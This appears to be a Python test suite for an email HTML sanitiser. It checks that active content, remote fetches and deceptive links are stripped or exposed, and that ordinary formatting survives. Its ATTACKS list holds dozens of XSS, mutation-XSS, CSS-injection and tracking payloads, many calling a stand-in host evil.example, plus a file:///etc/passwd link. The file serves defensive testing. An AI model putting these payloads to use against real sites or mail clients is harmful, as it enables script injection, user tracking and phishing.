"""Mail is written by anybody: whatever its HTML tries, nothing of it acts and nothing of it asks."""

import re
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml.html import document_fromstring

from service.sources.mail_html import AsSent, Picture
from service.web.sanitise import MOST_PICTURES, sanitise

LOGO = Picture("image/png", b"\x89PNG\r\n\x1a\n")
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.example/a.png 2x' src=cid:logo>",
    "<img lowsrc=https://evil.example/a.png dynsrc=https://evil.example/b.avi>",
    "<img src=//evil.example/a.png>",
    "<img src=/messages/1/original>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='https://evil.example/a.png'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/a.swf></object>",
    "<embed src=https://evil.example/a.swf>",
    "<applet code=Evil.class archive=https://evil.example/a.jar></applet>",
    "<video src=https://evil.example/a.mp4 poster=https://evil.example/a.png onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<form action=https://evil.example/><input name=p><button formaction=//evil.example>go</button></form>",
    "<input type=image src=https://evil.example/a.png autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1) background=https://evil.example/a.png>",
    "<table background=https://evil.example/a.png><tr><td background='//evil.example/b.png'>x</table>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<div style='background-image:\\75\\72\\6c(https://evil.example/a.png)'>x</div>",
    "<div style='background:u/**/rl(https://evil.example/a.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml#x)'>x</div>",
    "<div style='list-style-image:image-set(\"https://evil.example/a.png\" 1x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>cover</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=/accounts/sign-out>x</a>",
    "<a href=https://x.example ping=https://evil.example onclick=alert(1) target=_top>x</a>",
    "<area href=javascript:alert(1) shape=rect>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p id=location name=cookie class=hidden>x</p>",
    '<a title=\'<a b=" href=" c=" onmouseover=alert(1) d="\' href=https://x.example>x</a>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]
ASKING = {"src", "href", "srcset", "background", "poster", "action", "formaction", "data", "ping", "lowsrc"}
ALLOWED = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")


def shown(html):
    return sanitise(AsSent(html, {"logo": LOGO}, is_cut=False)).html


def check(html):
    for element in document_fromstring(f"<html><body>{html}</body></html>").iter():
        assert isinstance(element.tag, str)
        assert element.tag not in {
            "script",
            "style",
            "svg",
            "math",
            "form",
            "input",
            "iframe",
            "object",
            "base",
        }
        assert element.tag not in {
            "link",
            "meta",
            "embed",
            "video",
            "audio",
            "template",
            "button",
            "textarea",
        }
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name not in {"id", "class", "name"}
            if name == "href":
                assert element.tag == "a"
                assert value.split(":")[0] in {"https", "http", "mailto", "tel"}
                assert (element.get("target"), element.get("rel")) == ("_blank", "noopener noreferrer")
            elif name in ASKING:
                assert (element.tag, name) == ("img", "src")
                assert ALLOWED.fullmatch(value)
            elif name == "style":
                assert not re.search(r"url|expression|position|binding|behavior|\\", value, re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_acts_or_asks(attack):
    for html in (attack, f"<table><tr><td>{attack}", f"<p title='{attack}", attack.replace("<", "<b><")):
        check(shown(html))


@given(st.lists(st.sampled_from(ATTACKS) | st.text("<>/\"'= ab&;!-", max_size=12), max_size=6))
def test_attacks_in_any_mixture_leave_nothing_that_acts_or_asks(pieces):
    check(shown("".join(pieces)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_sanitised_is_not_changed_by_sanitising_again(attack):
    once = shown(attack)
    assert shown(once).replace("<div>", "").replace("</div>", "") == once.replace("<div>", "").replace(
        "</div>", ""
    )


def test_what_people_write_stays():
    html = (
        '<p style="color:red">Zgoda na <b>12&nbsp;000 zł</b></p><ul><li>raz</li></ul>'
        '<table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    )
    assert shown(html) == f"<div>{html}</div>"


def test_pictures_of_the_mail_are_put_in_and_others_are_counted():
    mail = AsSent(
        "<img src='cid:logo'><img src=CID:logo><img src=cid:none><img src=https://evil.example/a.png>",
        {"logo": LOGO},
        is_cut=False,
    )
    found = sanitise(mail)
    assert found.html.count(b64encode(LOGO.content).decode()) == 2
    assert found.left_out == 2


def test_pictures_beyond_the_limit_and_drawings_are_left_out():
    large = Picture("image/jpeg", bytes(MOST_PICTURES // 2 + 1))
    drawing = Picture("image/svg+xml", b"<svg onload=alert(1)>")
    mail = AsSent("<img src=cid:a><img src=cid:a><img src=cid:b>", {"a": large, "b": drawing}, is_cut=False)
    assert sanitise(mail).left_out == 2


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://bank.example/pay", "bank.example"),
        ("https://bank.example@evil.example/", "evil.example"),
        ("https://bank.example%2f@evil.example:8443/", "evil.example"),
        ("http://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"),
        ("https://аррӏе.example/", "xn--80ak6aa92e.example"),
        ("mailto:anna@client.example", None),
    ],
)
def test_a_link_shows_the_host_that_it_leads_to(address, host):
    html = shown(f"<a href='{address}' data-host='bank.example'>https://bank.example</a>")
    found = re.search(r'data-host="([^"]*)"', html)
    assert (found[1] if found else None) == host


@pytest.mark.parametrize(
    "address",
    ["https:\\\\evil.example", "https://bank.example\\@evil.example", "https://a b.example", "https:///x"],
)
def test_a_link_that_browsers_may_read_otherwise_leads_nowhere(address):
    assert "href" not in shown(f"<a href='{address}'>x</a>")


@pytest.mark.parametrize(
    "html", ["", " ", "<", "<div>" * 5000 + "agreed", "<b>" * 5000 + "agreed" + "</b>" * 5000]
)
def test_no_page_is_too_odd_to_show(html):
    assert ("agreed" in shown(html)) == ("agreed" in html)
